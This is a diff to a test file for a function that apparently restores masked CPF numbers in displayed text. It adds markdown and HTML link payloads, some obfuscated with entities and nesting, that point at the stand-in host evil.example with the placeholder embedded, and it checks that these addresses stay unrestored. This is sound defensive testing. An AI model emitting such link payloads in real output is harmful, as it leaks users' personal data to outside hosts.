@@ -28,6 +28,12 @@ describe(restored.name, () => {
     'mailto:x@evil.example?body=[CPF_1]',
     '<img alt="x" src="evil.example/? [CPF_1]">',
     '[ref]: evil.example/ [CPF_1]',
+    '[x][ref]\n\n[ref]:\n//evil.example/[CPF_1]',
+    '> [ref]: //evil.example/[CPF_1]',
+    '1. - [ref]: //evil.example/[CPF_1]',
+    '[ref]:\n  &sol;&sol;evil.example/[CPF_1]',
+    '[aqui](<\\/\\/evil.example/) [CPF_1]>)',
+    'https&#58;//evil.example/[CPF_1]',
     `https://evil.example/${'x'.repeat(3000)}[CPF_1]`,
   ])('should keep what stands in an address: %s', (text) => {
     expect(shown(text)).toBe(text);
@@ -39,6 +45,7 @@ describe(restored.name, () => {
     );
     expect(shown('se 1 < 2, então [CPF_1]')).toBe('se 1 < 2, então 529.982.247-25');
     expect(shown('CPF:[CPF_1]')).toBe('CPF:529.982.247-25');
+    expect(shown('O cliente [titular]: [CPF_1]')).toBe('O cliente [titular]: 529.982.247-25');
   });
 
   it('should tell where places of the stored text are now', () => {
